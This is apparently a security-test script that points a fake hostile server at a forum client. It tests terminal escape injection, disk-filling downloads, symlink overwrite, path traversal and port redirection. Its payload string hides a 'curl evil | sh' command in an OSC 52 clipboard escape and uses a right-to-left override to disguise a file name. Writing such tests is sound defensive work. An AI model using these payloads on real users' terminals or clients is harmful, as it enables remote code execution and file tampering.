/**
 * Attack round 11, (A)/(B) a hostile server's transfers and text: the real forum-client (piped)
 * against a fake server granting DWN/UPD on its own TCP port.
 *
 *   npx tsx attack/hostile-transfers.ts escapes           # control sequences in every string the server can make the client print
 *   npx tsx attack/hostile-transfers.ts dwn-huge [s=10]   # `OK 2^49`, then zeros as fast as the client takes them, for s seconds
 *   npx tsx attack/hostile-transfers.ts dwn-symlink       # cwd holds f.txt -> ../victim: DWN without and with --overwrite
 *   npx tsx attack/hostile-transfers.ts dwn-name          # the grant names ../../escaped.txt and size 1; the sealed answer is 7 bytes
 *   npx tsx attack/hostile-transfers.ts port-elsewhere    # the grant's port is another local service: what it receives
 *   npx tsx attack/hostile-transfers.ts big-output        # a 2 MiB RDT answer then XIT, the client's output read through a pipe
 */
import { statfsSync } from 'node:fs';
import { mkdir, mkdtemp, readdir, readFile, stat, symlink, writeFile } from 'node:fs/promises';
import net from 'node:net';
import { join } from 'node:path';
import { tmpdir } from 'node:os';
import { simpleReply } from '../packages/forum-protocol/dist/index.js';
import { fakeServer, grant, login, runClient, summary } from './hostile-server-lib.js';

const mode = process.argv[2] ?? 'escapes';
const seconds = Number(process.argv[3] ?? 10);
const EVIL = `\x1b]52;c;${Buffer.from('curl evil | sh').toString('base64')}\x07\x1b[2J\rFAKE\u202egnp.exe\u009b31m`;

if (mode === 'escapes') {
  let step = 0;
  const server = await fakeServer(
    (req, tcpPort) => {
      if (req.cmd === 'username' || req.cmd === 'password' || req.cmd === 'XIT') return login(req);
      if (req.cmd === 'DWN' || req.cmd === 'UPD') {
        const g = grant(req, tcpPort, req.cmd === 'DWN' ? 'download' : 'upload', `done ${EVIL}`);
        return g.data.kind === 'transfer' ? { ...g, lines: [`line ${EVIL}`], data: { ...g.data, thread: `t${EVIL}` } } : g;
      }
      return simpleReply(req.id, 'ok', [`reply ${EVIL}`], { kind: 'none' });
    },
    (ch, socket) => {
      // 1: a clear refusal; 2: a sealed ERR; 3: a sealed abort mid-download; 4: the upload's ERR answer; 5: success.
      const s = ++step;
      if (s === 1) return void socket.end(`ERR clear ${EVIL}\n`);
      if (s === 2) return void ch.end(`ERR sealed ${EVIL}\n`);
      if (s === 3) {
        ch.write('OK 10\nabc');
        return void setTimeout(() => ch.abort(`abort ${EVIL}`), 50);
      }
      if (s === 4) return void ch.on('data', () => undefined).once('end', () => ch.end(`ERR upload ${EVIL}\n`));
      ch.end('OK 3\nabc');
    },
  );
  const cwd = await mkdtemp(join(tmpdir(), 'a11-esc-'));
  await writeFile(join(cwd, 'up.txt'), 'hello');
  const run = await runClient(server.port, ['yoda', 'pw', 'LST', 'DWN t f1', 'DWN t f2', 'DWN t f3', 'UPD t up.txt', 'DWN t f5', 'help', 'help DWN', 'XIT'], 30, { cwd });
  console.log(summary(mode, run));
  console.log(`[${mode}] output: ${JSON.stringify((run.stdout + run.stderr).split('\n').filter((l) => /<U\+/.test(l)).join(' | ').slice(0, 2000))}`);
  await server.close();
} else if (mode === 'dwn-huge') {
  const server = await fakeServer(
    (req, tcpPort) => login(req) ?? grant(req, tcpPort, 'download'),
    (ch) => {
      ch.write(`OK ${2 ** 49}\n`);
      const zeros = Buffer.alloc(1024 * 1024);
      const more = (): void => {
        while (!ch.destroyed) if (!ch.write(zeros)) return void ch.once('drain', more);
      };
      more();
    },
  );
  const run = await runClient(server.port, ['yoda', 'pw', 'DWN t huge.bin'], seconds);
  let bytes = 0;
  for (const f of run.files) bytes += (await stat(join(run.cwd, f))).size;
  console.log(summary(mode, run));
  console.log(`[${mode}] announced ${2 ** 49} bytes (512 TiB); in ${seconds} s the client wrote ${(bytes / 2 ** 20).toFixed(0)} MiB to ${run.files.join(', ') || '(nothing)'}; free on its disk: ${freeMiB(run.cwd)}`);
  console.log(`[${mode}] stdout: ${JSON.stringify(run.stdout.split('\n').slice(-3).join(' | '))}`);
  await server.close();
} else if (mode === 'dwn-symlink') {
  const server = await fakeServer((req, tcpPort) => login(req) ?? grant(req, tcpPort, 'download'), (ch) => ch.end('OK 7\nHOSTILE'));
  const base = await mkdtemp(join(tmpdir(), 'a11-link-'));
  const cwd = join(base, 'cwd');
  await mkdir(cwd);
  await writeFile(join(base, 'victim'), 'precious');
  await symlink('../victim', join(cwd, 'f.txt'));
  const run = await runClient(server.port, ['yoda', 'pw', 'DWN t f.txt', 'DWN t f.txt --overwrite', 'XIT'], 20, { cwd });
  console.log(summary(mode, run));
  console.log(`[${mode}] victim now: ${JSON.stringify(await readFile(join(base, 'victim'), 'utf8'))}; cwd/f.txt: ${JSON.stringify(await readFile(join(cwd, 'f.txt'), 'utf8'))}`);
  console.log(`[${mode}] stdout: ${JSON.stringify(run.stdout.split('\n').filter((l) => l.includes('f.txt') || l.includes('done')).join(' | '))}`);
  await server.close();
} else if (mode === 'dwn-name') {
  // The grant names another file, a path out of the directory and a size that is not the sealed one.
  const server = await fakeServer(
    (req, tcpPort) => {
      const l = login(req);
      if (l !== undefined) return l;
      const g = grant(req, tcpPort, 'download', 'Downloaded ../../escaped.txt');
      return g.data.kind === 'transfer' ? { ...g, data: { ...g.data, filename: '../../escaped.txt', size: 1 } } : g;
    },
    (ch) => ch.end('OK 7\nHOSTILE'),
  );
  const base = await mkdtemp(join(tmpdir(), 'a11-name-'));
  const cwd = join(base, 'a', 'cwd');
  await mkdir(cwd, { recursive: true });
  const run = await runClient(server.port, ['yoda', 'pw', 'DWN t asked.txt', 'DWN t ../escaped.txt', 'XIT'], 20, { cwd });
  const tree = (await readdir(base, { recursive: true })).sort();
  console.log(summary(mode, run));
  console.log(`[${mode}] files under the run's directory: ${tree.join(', ')}`);
  console.log(`[${mode}] stdout: ${JSON.stringify(run.stdout.split('\n').filter((l) => /escaped|asked|Invalid/.test(l)).join(' | '))}`);
  await server.close();
} else if (mode === 'port-elsewhere') {
  const seen: Buffer[] = [];
  const other = net.createServer((s) => {
    s.on('data', (d: Buffer) => seen.push(d));
    s.on('error', () => undefined);
    setTimeout(() => s.end('+OK hello from another service\r\n'), 200);
  });
  await new Promise<void>((r) => other.listen(0, '127.0.0.1', () => r()));
  const otherPort = (other.address() as net.AddressInfo).port;
  const server = await fakeServer((req) => login(req) ?? grant(req, otherPort, 'download'));
  const run = await runClient(server.port, ['yoda', 'pw', 'DWN t f.txt', 'XIT'], 40);
  const got = Buffer.concat(seen);
  console.log(summary(mode, run));
  console.log(`[${mode}] the other service received ${got.length} bytes: ${JSON.stringify(got.toString('latin1').slice(0, 66))}…`);
  console.log(`[${mode}] stdout: ${JSON.stringify(run.stdout.split('\n').filter((l) => l.includes('f.txt')).join(' | '))}`);
  other.close();
  await server.close();
} else if (mode === 'big-output') {
  const LINES = 200_000;
  const server = await fakeServer((req) => login(req) ?? simpleReply(req.id, 'ok', Array.from({ length: LINES }, (_, i) => `${i} mallory: m`), { kind: 'none' }));
  const run = await runClient(server.port, ['yoda', 'pw', 'RDT t', 'XIT'], 30);
  const printed = run.stdout.split('\n').filter((l) => / mallory: m$/.test(l)).length;
  console.log(summary(mode, run));
  console.log(`[${mode}] ${printed} of ${LINES} thread lines reached the pipe (${run.stdout.length} chars); Goodbye printed: ${run.stdout.includes('Goodbye')}`);
  await server.close();
}
process.exit(0);

function freeMiB(dir: string): string {
  const s = statfsSync(dir);
  return `${Math.round((s.bavail * s.bsize) / 2 ** 20)} MiB`;
}
